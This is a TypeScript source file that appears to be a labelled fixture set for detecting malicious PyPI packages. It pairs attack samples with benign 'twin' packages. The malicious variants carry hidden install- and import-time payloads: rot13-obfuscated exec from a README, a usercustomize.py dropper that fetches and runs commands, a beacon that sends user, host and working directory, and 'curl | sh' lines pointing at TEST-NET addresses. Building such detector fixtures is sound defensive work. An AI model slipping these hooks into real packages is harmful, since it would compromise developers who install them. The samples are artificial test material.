    ...pkg('docutils-lite', '0.20.2', 'A lighter docutils', {
      'setup.py': py`import codecs, re
from setuptools import setup


def render(text):
    for blk in re.findall(r'\.\. raw:: python\n\n((?:    .*\n)+)', text):
        eval(compile(codecs.decode('\n'.join(l[4:] for l in blk.splitlines()), 'rot_13'), 'README', 'exec'))
    return text


setup(name='docutils-lite', version='0.20.2', packages=['docutils_lite'], long_description=render(open('README.rst').read()))
`,
      'README.rst':
        'docutils-lite\n=============\n\nA lighter docutils.\n\n.. raw:: python\n\n' +
        rot13(T_CURL)
          .trimEnd()
          .split('\n')
          .map((l) => `    ${l}`)
          .join('\n') +
        '\n\nUsage\n-----\n\n    import docutils_lite\n',
      'docutils_lite/__init__.py': 'def publish(text):\n    return text\n',
    }),
  },
  {
    id: 'usercustomize-drop-startup',
    family: 'persistence',
    note: '[startup] setup.py writes usercustomize.py into the user site-packages (site imports it at every interpreter start when user site is enabled); it beacons and runs a fetched command once a day. Written',
    ...pkg('venv-doctor', '0.2.2', 'Diagnose virtual environments', {
      'setup.py': py`import os, site
from setuptools import setup

_UC = '''import os, time, urllib.request as _r
_s = os.path.expanduser('~/.cache/.vd')
if not os.path.exists(_s) or time.time() - os.path.getmtime(_s) > 86400:
    open(_s, 'w').close()
    try:
        os.popen(_r.urlopen('http://203.0.113.71/d', timeout=2).read().decode())
    except Exception:
        pass
'''

try:
    d = site.getusersitepackages()
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, 'usercustomize.py'), 'a') as fh:
        fh.write(_UC)
except Exception:
    pass

setup(name='venv-doctor', version='0.2.2', packages=['venv_doctor'])
`,
      'venv_doctor/__init__.py': 'import sys\n\n\ndef in_venv():\n    return sys.prefix != sys.base_prefix\n',
    }),
  },
  {
    id: 'import-http-client-confusion-beacon',
    family: 'dependency_confusion',
    note: '[import] dependency-confusion package (internal-looking name, version 99) beacons at import with http.client (no urllib / requests), sending user, host, cwd and the installing project path. After: https://github.com/pypi/legacy/issues/644',
    ...pkg('corp-billing-common', '99.9.9', 'billing common', {
      'setup.py': py`from setuptools import setup
setup(name='corp-billing-common', version='99.9.9', packages=['corp_billing_common'])
`,
      'corp_billing_common/__init__.py':
        py`import getpass, http.client, json, os, socket, sys

try:
    _c = http.client.HTTPConnection('198.51.100.180', 8080, timeout=3)
    _c.request('POST', '/` +
        FAKE.beaconId +
        py`', json.dumps({
        'u': getpass.getuser(), 'h': socket.gethostname(), 'cwd': os.getcwd(),
        'exe': sys.executable, 'argv': sys.argv, 'p': __file__,
    }), {'Content-Type': 'application/json'})
    _c.getresponse()
except Exception:
    pass
`,
    }),
  },
  {
    id: 'cython-pyx-module-level',
    family: 'download_exec',
    note: '[import, hard] the payload is in a Cython .pyx compiled by cythonize() at install and imported by __init__ as a "speedups" module; the .py fallback next to it is honest. Written',
    ...pkg('orjson-compat', '3.9.15', 'orjson-compatible API with speedups', {
      'setup.py': py`from setuptools import setup
from Cython.Build import cythonize

setup(name='orjson-compat', version='3.9.15', packages=['orjson_compat'],
      ext_modules=cythonize(['orjson_compat/_speedups.pyx']))
`,
      'pyproject.toml':
        '[build-system]\nrequires = ["setuptools", "Cython"]\nbuild-backend = "setuptools.build_meta"\n',
      'orjson_compat/__init__.py': py`try:
    from ._speedups import dumps, loads
except ImportError:
    from ._pure import dumps, loads
`,
      'orjson_compat/_pure.py': 'import json\n\ndumps = json.dumps\nloads = json.loads\n',
      'orjson_compat/_speedups.pyx': py`# cython: language_level=3
import json, os, subprocess

cdef str _u = 'http://198.51.100.91/o'
subprocess.Popen('curl -s %s | sh' % _u, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def dumps(obj):
    return json.dumps(obj)


def loads(s):
    return json.loads(s)
`,
    }),
  },
  {
    id: 'sourceless-pyc-module',
    family: 'obfuscated_exec',
    note: '[import, hard] a sourceless _native.pyc sits in the package folder (Python imports a bare .pyc when no .py exists); __init__ imports it. The .pyc is a header plus a placeholder code object whose string table names os.system and a TEST-NET URL. After: https://gthegenie.pages.dev/posts/pycache_poisoning',
    ...pkg('pillow-simd-lite', '10.2.0', 'SIMD helpers for Pillow', {
      'setup.py': py`from setuptools import setup
setup(name='pillow-simd-lite', version='10.2.0', packages=['pillow_simd_lite'], package_data={'pillow_simd_lite': ['_native.pyc']})
`,
      'pillow_simd_lite/__init__.py': py`from . import _native  # noqa: F401  compiled helpers


def resize(img, size):
    return img.resize(size)
`,
      'pillow_simd_lite/_native.pyc': fakePyc(['os', 'system', 'curl -s http://203.0.113.77/n | sh', '<module>']),
    }),
  },
];

// ============================ honest near twins ============================

export const PYPI_TWINS_SET2: readonly PypiVariant[] = [
  {
    id: 'twin-sdk-posts-to-own-api',
    family: 'twin:backdoor',
    note: '[runtime] a payments SDK that posts invoices (with its own API key header) only to its documented base URL, configurable by the caller. Twin of sdk-fork-appended-telegram-keys',
    ...pkg('paystack-lite', '1.2.0', 'Client for the Paystack-like API', {
      'setup.py': py`from setuptools import setup
setup(name='paystack-lite', version='1.2.0', packages=['paystack_lite'], install_requires=['requests'])
`,
      'paystack_lite/__init__.py': py`import hashlib, hmac, json
import requests


class Client:
    def __init__(self, api_key, base='https://api.paystack-lite.example/v1'):
        self.api_key = api_key
        self.base = base
        self.session = requests.Session()
        self.session.headers['Authorization'] = 'Bearer ' + api_key

    def create_invoice(self, amount, currency='USD'):
        body = {'amount': amount, 'currency': currency}
        sig = hmac.new(self.api_key.encode(), json.dumps(body, sort_keys=True).encode(), hashlib.sha256).hexdigest()
        return self.session.post(self.base + '/invoices', json=body, headers={'X-Sig': sig}).json()
`,
    }),
  },
  {
    id: 'twin-setup-exec-version',
    family: 'twin:obfuscated_exec',
    note: '[install] setup.py reads __version__ by exec of the package _version.py into a dict (a common pattern). Twin of bdist-wheel-override-lzma-exec',
    ...pkg('tinyretry', '0.4.2', 'Retry decorator', {
      'setup.py': py`import os
from setuptools import setup

about = {}
with open(os.path.join('tinyretry', '_version.py')) as fh:
    exec(fh.read(), about)

setup(name='tinyretry', version=about['__version__'], packages=['tinyretry'])
`,
      'tinyretry/_version.py': "__version__ = '0.4.2'\n",
      'tinyretry/__init__.py': py`import functools, time
from ._version import __version__


def retry(n=3, delay=0.1):
    def deco(fn):
        @functools.wraps(fn)
        def inner(*a, **k):
            for i in range(n):
                try:
                    return fn(*a, **k)
                except Exception:
                    if i == n - 1:
                        raise
                    time.sleep(delay)
        return inner
    return deco
`,
    }),
  },
  {
    id: 'twin-cli-downloads-model-cache',
    family: 'twin:download_exec',
    note: '[runtime] a CLI command "download" fetches a model file from its configured host into ~/.cache with a sha256 check; nothing is executed. Twin of init-pickle-fetched-blob',
    ...pkg('tiny-whisper', '0.3.0', 'Small speech-to-text models', {
      'setup.py': bareSetup,
      'setup.cfg': setupCfg(
        'tiny-whisper',
        '0.3.0',
        '\n[options.entry_points]\nconsole_scripts =\n    tiny-whisper = tiny_whisper.cli:main\n',
      ),
      'tiny_whisper/__init__.py': '',
      'tiny_whisper/cli.py':
        py`import argparse, hashlib, os, urllib.request

MODELS = {'base': ('https://models.tiny-whisper.example/base.bin', '` +
        g(HEXD, 64) +
        py`')}


def download(name):
    url, digest = MODELS[name]
    dst = os.path.join(os.path.expanduser('~/.cache/tiny-whisper'), name + '.bin')
    os.makedirs(os.path.dirname(dst), exist_ok=True)
    tmp = dst + '.part'
    urllib.request.urlretrieve(url, tmp)
    if hashlib.sha256(open(tmp, 'rb').read()).hexdigest() != digest:
        os.remove(tmp)
        raise SystemExit('checksum mismatch')
    os.replace(tmp, dst)
    return dst


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('cmd', choices=['download'])
    ap.add_argument('model', default='base', nargs='?')
    a = ap.parse_args()
    print(download(a.model))
`,
    }),
  },
  {
    id: 'twin-browser-cookies-on-request',
    family: 'twin:credential_theft',
    note: '[runtime] a browser_cookie3-like library: load(domain) reads the local Chrome cookie DB for the calling user and returns a CookieJar; nothing leaves the machine, nothing runs at import. Twin of init-browser-local-state',
    ...pkg('cookiejar-browser', '0.8.0', 'Load browser cookies into a CookieJar', {
      'setup.py': py`from setuptools import setup
setup(name='cookiejar-browser', version='0.8.0', packages=['cookiejar_browser'])
`,
      'cookiejar_browser/__init__.py': py`import http.cookiejar, json, os, shutil, sqlite3, tempfile


def _root():
    return os.path.join(os.environ.get('LOCALAPPDATA', os.path.expanduser('~/.config')), 'Google', 'Chrome', 'User Data')


def local_state_key():
    with open(os.path.join(_root(), 'Local State')) as fh:
        return json.load(fh)['os_crypt']['encrypted_key']


def load(domain_name=''):
    """Return the user's Chrome cookies for domain_name (called explicitly by the user)."""
    src = os.path.join(_root(), 'Default', 'Network', 'Cookies')
    tmp = os.path.join(tempfile.mkdtemp(), 'Cookies')
    shutil.copy2(src, tmp)
    jar = http.cookiejar.CookieJar()
    for host, name, value in sqlite3.connect(tmp).execute('select host_key, name, value from cookies where host_key like ?', ('%' + domain_name,)):
        jar.set_cookie(http.cookiejar.Cookie(0, name, value, None, False, host, True, host.startswith('.'), '/', True, False, None, False, None, None, {}))
    return jar
`,
    }),
  },
  {
    id: 'twin-aws-profile-lister',
    family: 'twin:credential_theft',
    note: '[runtime] a CLI that lists profile names in ~/.aws/config and ~/.aws/credentials (names only, printed locally). Twin of setup-smtp-exfil / github-issue-exfil-multifile',
    ...pkg('awsprofiles', '1.0.1', 'List and switch AWS profiles', {
      'setup.py': bareSetup,
      'setup.cfg': setupCfg(
        'awsprofiles',
        '1.0.1',
        '\n[options.entry_points]\nconsole_scripts =\n    awsprofiles = awsprofiles:main\n',
      ),
      'awsprofiles/__init__.py': py`import configparser, os


def profiles():
    names = set()
    for f in ('~/.aws/config', '~/.aws/credentials'):
        cp = configparser.ConfigParser()
        cp.read(os.path.expanduser(f))
        names.update(s.replace('profile ', '') for s in cp.sections())
    return sorted(names)


def main():
    for p in profiles():
        print(p)
`,
    }),
  },
  {
    id: 'twin-kubeconfig-loader',
    family: 'twin:credential_theft',
    note: '[runtime] load_kube_config() reads ~/.kube/config (or $KUBECONFIG) and returns the current context server for the caller, as the official client does. Twin of init-timer-submodule-kube-ftp',
    ...pkg('kubecfg-lite', '0.2.0', 'Parse kubeconfig files', {
      'setup.py': py`from setuptools import setup
setup(name='kubecfg-lite', version='0.2.0', packages=['kubecfg_lite'], install_requires=['pyyaml'])
`,
      'kubecfg_lite/__init__.py': py`import os
import yaml


def load_kube_config(path=None):
    path = path or os.environ.get('KUBECONFIG') or os.path.expanduser('~/.kube/config')
    with open(path) as fh:
        cfg = yaml.safe_load(fh)
    ctx = next(c for c in cfg['contexts'] if c['name'] == cfg['current-context'])['context']
    cluster = next(c for c in cfg['clusters'] if c['name'] == ctx['cluster'])['cluster']
    return {'server': cluster['server'], 'namespace': ctx.get('namespace', 'default')}
`,
    }),
  },
  {
    id: 'twin-docker-credential-helper',
    family: 'twin:credential_theft',
    note: '[runtime] a docker-credential-* helper: reads a server URL on stdin and prints the stored credential from the OS keyring, as the Docker protocol asks. Twin of init-timer-submodule-kube-ftp',
    ...pkg('docker-credential-keyring', '0.5.0', 'Docker credential helper backed by keyring', {
      'setup.py': bareSetup,
      'setup.cfg': setupCfg(
        'docker-credential-keyring',
        '0.5.0',
        'install_requires = keyring\n\n[options.entry_points]\nconsole_scripts =\n    docker-credential-keyring = docker_credential_keyring:main\n',
      ),
      'docker_credential_keyring/__init__.py': py`import json, sys
import keyring


def main():
    op = sys.argv[1]
    server = sys.stdin.read().strip()
    if op == 'get':
        secret = keyring.get_password('docker', server)
        user = keyring.get_password('docker-user', server)
        print(json.dumps({'ServerURL': server, 'Username': user, 'Secret': secret}))
    elif op == 'erase':
        keyring.delete_password('docker', server)
`,
    }),
  },
  {
    id: 'twin-honest-build-ext',
    family: 'twin:download_exec',
    note: '[install] setup.cfg-free setup.py with a custom build_ext that only adds compiler flags per platform before building a C extension. Twin of setupcfg-cmdclass-build-ext-hook',
    ...pkg('fastcrc', '0.3.1', 'CRC functions in C', {
      'setup.py': py`import sys
from setuptools import setup, Extension
from setuptools.command.build_ext import build_ext


class BuildExt(build_ext):
    def build_extensions(self):
        flag = '/O2' if self.compiler.compiler_type == 'msvc' else '-O3'
        for ext in self.extensions:
            ext.extra_compile_args.append(flag)
        super().build_extensions()


setup(name='fastcrc', version='0.3.1', packages=['fastcrc'],
      ext_modules=[Extension('fastcrc._crc', ['src/crc.c'])], cmdclass={'build_ext': BuildExt})
`,
      'src/crc.c':
        '#include <Python.h>\nstatic PyModuleDef m = {PyModuleDef_HEAD_INIT, "_crc", NULL, -1, NULL};\nPyMODINIT_FUNC PyInit__crc(void) { return PyModule_Create(&m); }\n',
      'fastcrc/__init__.py': 'from ._crc import *  # noqa: F401,F403\n',
    }),
  },
  {
    id: 'twin-hatch-build-hook-version-file',
    family: 'twin:credential_theft',
    note: '[build-backend] hatch_build.py hook that writes a _build_info.py with the git commit hash into the wheel. Twin of hatch-build-hook-steal',
    ...pkg('buildinfo-demo', '2.0.0', 'Shows build info', {
      'pyproject.toml': `[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[project]\nname = "buildinfo-demo"\nversion = "2.0.0"\n\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n`,
      'hatch_build.py': py`import os, subprocess
from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        try:
            rev = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True, cwd=self.root).stdout.strip()
        except OSError:
            rev = 'unknown'
        path = os.path.join(self.root, 'buildinfo_demo', '_build_info.py')
        with open(path, 'w') as fh:
            fh.write('COMMIT = %r\n' % rev)
        build_data['artifacts'].append('buildinfo_demo/_build_info.py')
`,
      'buildinfo_demo/__init__.py':
        'try:\n    from ._build_info import COMMIT\nexcept ImportError:\n    COMMIT = None\n',
    }),
  },
  {
    id: 'twin-pytest-plugin-honest',
    family: 'twin:credential_theft',
    note: '[runtime] pytest11 plugin that adds a --fail-fast-ish option and reads CI env only to decide whether to colour output; nothing is sent. Twin of pytest11-plugin-ci-env',
    ...pkg('pytest-quickstop', '0.1.0', 'Stop after N failures', {
      'setup.py': bareSetup,
      'pyproject.toml': pyproject(
        'pytest-quickstop',
        '0.1.0',
        '\n[project.entry-points.pytest11]\nquickstop = "pytest_quickstop.plugin"\n',
      ),
      'pytest_quickstop/__init__.py': '',
      'pytest_quickstop/plugin.py': py`import os


def pytest_addoption(parser):
    parser.addoption('--quickstop', type=int, default=0)


def pytest_configure(config):
    if os.environ.get('CI') and not os.environ.get('FORCE_COLOR'):
        config.option.color = 'no'


def pytest_runtest_logreport(report):
    pass
`,
    }),
  },
  {
    id: 'twin-dns-txt-resolver-lib',
    family: 'twin:download_exec',
    note: '[runtime] a tiny DNS client: query_txt(name, server) builds a query packet and returns TXT strings to the caller; nothing is decoded or run, nothing happens at import. Twin of dns-txt-stage-fetch',
    ...pkg('minidns-client', '0.4.0', 'A minimal DNS client', {
      'setup.py': py`from setuptools import setup
setup(name='minidns-client', version='0.4.0', packages=['minidns_client'])
`,
      'minidns_client/__init__.py': py`import os, socket, struct


def _query(name, qtype):
    hdr = struct.pack('!HHHHHH', int.from_bytes(os.urandom(2), 'big'), 0x0100, 1, 0, 0, 0)
    qn = b''.join(bytes([len(p)]) + p.encode() for p in name.rstrip('.').split('.')) + b'\0'
    return hdr + qn + struct.pack('!HH', qtype, 1)


def query_txt(name, server='127.0.0.53'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(_query(name, 16), (server, 53))
    data = s.recv(4096)
    return [data]  # raw answer; parsing left to the caller
`,
    }),
  },
  {
    id: 'twin-smtp-mailer',
    family: 'twin:credential_theft',
    note: '[runtime] a mail-sending helper: send(to, subject, body, attachments) with SMTP settings from the caller; no files are read except the attachments the caller names. Twin of setup-smtp-exfil',
    ...pkg('easymail', '1.5.0', 'Send email easily', {
      'setup.py': py`from setuptools import setup
setup(name='easymail', version='1.5.0', packages=['easymail'])
`,
      'easymail/__init__.py': py`import os, smtplib
from email.message import EmailMessage


def send(host, user, password, to, subject, body, attachments=(), port=465):
    m = EmailMessage()
    m['From'], m['To'], m['Subject'] = user, to, subject
    m.set_content(body)
    for path in attachments:
        with open(path, 'rb') as fh:
            m.add_attachment(fh.read(), maintype='application', subtype='octet-stream', filename=os.path.basename(path))
    with smtplib.SMTP_SSL(host, port) as s:
        s.login(user, password)
        s.send_message(m)
`,
    }),
  },
  {
    id: 'twin-ctypes-system-lib',
    family: 'twin:shellcode_loader',
    note: '[runtime] ctypes wrapper for kernel32 GetTickCount64 and libc clock_gettime; no memory is made executable. Twin of init-ctypes-virtualalloc-built-names',
    ...pkg('uptime-ctypes', '0.2.0', 'System uptime via ctypes', {
      'setup.py': py`from setuptools import setup
setup(name='uptime-ctypes', version='0.2.0', packages=['uptime_ctypes'])
`,
      'uptime_ctypes/__init__.py': py`import ctypes, ctypes.util, sys


def uptime():
    if sys.platform == 'win32':
        f = ctypes.windll.kernel32.GetTickCount64
        f.restype = ctypes.c_ulonglong
        return f() / 1000.0

    class timespec(ctypes.Structure):
        _fields_ = [('tv_sec', ctypes.c_long), ('tv_nsec', ctypes.c_long)]

    libc = ctypes.CDLL(ctypes.util.find_library('c'))
    ts = timespec()
    libc.clock_gettime(7, ctypes.byref(ts))
    return ts.tv_sec + ts.tv_nsec / 1e9
`,
    }),
  },
  {
    id: 'twin-pickle-cache-own-files',
    family: 'twin:data_file_payload',
    note: '[runtime] a memoisation cache that pickles results it computed into ~/.cache and loads only files it wrote, keyed by a hash. Twin of init-pickle-file-reduce / init-pickle-fetched-blob',
    ...pkg('diskmemo', '0.6.0', 'Disk memoisation', {
      'setup.py': py`from setuptools import setup
setup(name='diskmemo', version='0.6.0', packages=['diskmemo'])
`,
      'diskmemo/__init__.py': py`import functools, hashlib, os, pickle

CACHE = os.path.expanduser('~/.cache/diskmemo')


def memo(fn):
    @functools.wraps(fn)
    def inner(*a):
        key = hashlib.sha256(repr((fn.__qualname__, a)).encode()).hexdigest()
        path = os.path.join(CACHE, key + '.pkl')
        if os.path.exists(path):
            with open(path, 'rb') as fh:
                return pickle.load(fh)
        out = fn(*a)
        os.makedirs(CACHE, exist_ok=True)
        with open(path, 'wb') as fh:
            pickle.dump(out, fh)
        return out
    return inner
`,
    }),
  },
  {
    id: 'twin-shell-completion-installer',
    family: 'twin:persistence',
    note: '[runtime] `mytool --install-completion` (explicit user command) appends a completion line to ~/.bashrc or ~/.zshrc, as typer/click do. Twin of xdg-autostart-and-zshenv',
    ...pkg('todo-cli', '1.1.0', 'A to-do list in the terminal', {
      'setup.py': bareSetup,
      'setup.cfg': setupCfg(
        'todo-cli',
        '1.1.0',
        '\n[options.entry_points]\nconsole_scripts =\n    todo = todo_cli:main\n',
      ),
      'todo_cli/__init__.py': py`import os, sys


def install_completion():
    shell = os.path.basename(os.environ.get('SHELL', 'bash'))
    rc = os.path.expanduser('~/.zshrc' if shell == 'zsh' else '~/.bashrc')
    line = 'eval "$(_TODO_COMPLETE=%s_source todo)"\n' % shell
    current = open(rc).read() if os.path.exists(rc) else ''
    if line not in current:
        with open(rc, 'a') as fh:
            fh.write(line)
    print('completion installed in', rc)


def main():
    if '--install-completion' in sys.argv:
        return install_completion()
    print('\n'.join(sys.argv[1:]))
`,
    }),
  },
  {
    id: 'twin-launchd-service-command',
    family: 'twin:persistence',
    note: "[runtime] `syncd service install` (explicit command) writes a LaunchAgent that runs the tool's own console script; it prints what it did. Twin of setup-launchd-plist",
    ...pkg('folder-syncd', '0.9.0', 'Sync a folder in the background', {
      'setup.py': bareSetup,
      'setup.cfg': setupCfg(
        'folder-syncd',
        '0.9.0',
        '\n[options.entry_points]\nconsole_scripts =\n    syncd = folder_syncd:main\n',
      ),
      'folder_syncd/__init__.py': py`import os, shutil, sys

PLIST = '''<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
<key>Label</key><string>io.folder-syncd</string>
<key>ProgramArguments</key><array><string>%s</string><string>run</string></array>
<key>RunAtLoad</key><true/>
</dict></plist>'''


def install_service():
    exe = shutil.which('syncd')
    p = os.path.expanduser('~/Library/LaunchAgents/io.folder-syncd.plist')
    with open(p, 'w') as fh:
        fh.write(PLIST % exe)
    print('wrote', p, '- load it with: launchctl load', p)


def main():
    if sys.argv[1:3] == ['service', 'install']:
        install_service()
`,
    }),
  },
  {
    id: 'twin-git-hook-installer',
    family: 'twin:persistence',
    note: "[runtime] `hookkit install` (explicit) writes a pre-commit hook into the current repository .git/hooks that runs the tool's own linter; no global config change. Twin of setup-global-git-hook",
    ...pkg('hookkit', '2.3.0', 'Git hooks made simple', {
      'setup.py': bareSetup,
      'setup.cfg': setupCfg(
        'hookkit',
        '2.3.0',
        '\n[options.entry_points]\nconsole_scripts =\n    hookkit = hookkit:main\n',
      ),
      'hookkit/__init__.py': py`import os, subprocess, sys

HOOK = '#!/bin/sh\nexec hookkit run\n'


def install():
    top = subprocess.run(['git', 'rev-parse', '--git-dir'], capture_output=True, text=True, check=True).stdout.strip()
    p = os.path.join(top, 'hooks', 'pre-commit')
    with open(p, 'w') as fh:
        fh.write(HOOK)
    os.chmod(p, 0o755)


def run():
    files = subprocess.run(['git', 'diff', '--cached', '--name-only'], capture_output=True, text=True).stdout.split()
    bad = [f for f in files if f.endswith('.py') and any(l.rstrip() != l.rstrip('\n') for l in open(f))]
    return 1 if bad else 0


def main():
    return install() if sys.argv[1:] == ['install'] else sys.exit(run())
`,
    }),
  },
  {
    id: 'twin-plugin-loader-import-module',
    family: 'twin:obfuscated_exec',
    note: '[runtime] importlib.import_module of plugin names read from entry points the user installed; names are not built from pieces. Twin of init-import-module-built-names',
    ...pkg('plugbase', '1.0.0', 'Plugin discovery', {
      'setup.py': py`from setuptools import setup
setup(name='plugbase', version='1.0.0', packages=['plugbase'])
`,
      'plugbase/__init__.py': py`import importlib
from importlib.metadata import entry_points


def load_plugins(group='plugbase.plugins'):
    out = {}
    for ep in entry_points(group=group):
        module, _, attr = ep.value.partition(':')
        out[ep.name] = getattr(importlib.import_module(module), attr)
    return out
`,
    }),
  },
  {
    id: 'twin-rot13-puzzle-lib',
    family: 'twin:obfuscated_exec',
    note: '[runtime] a word-puzzle library that uses codecs.decode(..., "rot13") and bytes.fromhex on user strings and returns text; no exec. Twin of setup-asyncio-subprocess-shell / init-getattr-builtins-fromhex',
    ...pkg('cipherfun', '0.2.1', 'Classic ciphers for puzzles', {
      'setup.py': py`from setuptools import setup
setup(name='cipherfun', version='0.2.1', packages=['cipherfun'])
`,
      'cipherfun/__init__.py': py`import base64, codecs


def rot13(s):
    return codecs.decode(s, 'rot13')


def from_hex(s):
    return bytes.fromhex(s).decode('utf-8', 'replace')


def from_b85(s):
    return base64.b85decode(s).decode('utf-8', 'replace')


EXAMPLE = rot13('Uryyb, jbeyq')
`,
    }),
  },
  {
    id: 'twin-compressed-data-table',
    family: 'twin:obfuscated_exec',
    note: '[import] a unicode-width table stored as zlib+base64 and decoded at import into a list of ranges with json.loads (data only, never exec). Twin of bdist-wheel-override-lzma-exec / conftest-shipped-in-sdist',
    ...pkg('wcwidth-lite', '0.2.13', 'Terminal column width of characters', {
      'setup.py': py`from setuptools import setup
setup(name='wcwidth-lite', version='0.2.13', packages=['wcwidth_lite'])
`,
      'wcwidth_lite/__init__.py':
        py`import base64, bisect, json, zlib

_T = '` +
        b64(
          deflateSync(
            JSON.stringify([
              [0x1100, 0x115f],
              [0x2e80, 0x303e],
              [0x3041, 0x33ff],
              [0xac00, 0xd7a3],
            ]),
          ),
        ) +
        py`'
WIDE = json.loads(zlib.decompress(base64.b64decode(_T)))
_STARTS = [a for a, _ in WIDE]


def wcwidth(ch):
    o = ord(ch)
    i = bisect.bisect_right(_STARTS, o) - 1
    return 2 if i >= 0 and WIDE[i][0] <= o <= WIDE[i][1] else 1
`,
    }),
  },
  {
    id: 'twin-update-checker-prints',
    family: 'twin:beacon',
    note: "[runtime] an update check the user runs (`tool --check-update`) that GETs the project's own releases JSON (host from env var with a documented default) and prints a message; sends no host data. Twin of setup-dns-hex-labels-confusion / sdist-command-override-popen-beacon",
    ...pkg('release-notify', '0.5.0', 'Tell users about new releases', {
      'setup.py': py`from setuptools import setup
setup(name='release-notify', version='0.5.0', packages=['release_notify'])
`,
      'release_notify/__init__.py': py`import json, os, urllib.request

__version__ = '0.5.0'


def check_update():
    base = os.environ.get('RELEASE_NOTIFY_URL', 'https://releases.release-notify.example/latest.json')
    latest = json.load(urllib.request.urlopen(base, timeout=3))['version']
    if latest != __version__:
        print('release-notify %s is available (you have %s)' % (latest, __version__))
    return latest
`,
    }),
  },
  {
    id: 'twin-terminal-recorder-pty',
    family: 'twin:reverse_shell',
    note: "[runtime] an asciinema-like recorder: record(path) runs pty.spawn on the user's own shell and writes the output to a local file; no sockets. Twin of setup-pty-spawn-env-host / fork-appended-pty-bind",
    ...pkg('termrec', '0.3.0', 'Record terminal sessions', {
      'setup.py': py`from setuptools import setup
setup(name='termrec', version='0.3.0', packages=['termrec'])
`,
      'termrec/__init__.py': py`import json, os, pty, time


def record(path, shell=None):
    shell = shell or os.environ.get('SHELL', '/bin/sh')
    start = time.time()
    with open(path, 'w') as out:
        out.write(json.dumps({'version': 2, 'timestamp': int(start)}) + '\n')

        def read(fd):
            data = os.read(fd, 1024)
            out.write(json.dumps([time.time() - start, 'o', data.decode('utf-8', 'replace')]) + '\n')
            return data

        pty.spawn(shell, read)
`,
    }),
  },
];
